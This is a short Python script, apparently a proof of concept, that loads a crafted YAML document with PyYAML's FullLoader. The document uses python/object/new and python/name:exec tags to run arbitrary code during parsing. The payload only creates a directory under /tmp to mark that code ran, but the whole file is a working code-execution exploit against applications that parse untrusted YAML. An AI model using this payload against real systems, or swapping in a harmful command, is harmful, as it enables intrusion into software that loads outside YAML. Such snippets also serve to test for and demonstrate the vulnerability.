import yaml

DOCUMENT = """
!!python/object/new:tuple
- !!python/object/new:map
  - !!python/name:exec
  - ["import os; os.makedirs('/tmp/made-by-yaml')"]
"""
yaml.load(DOCUMENT, Loader=yaml.FullLoader)
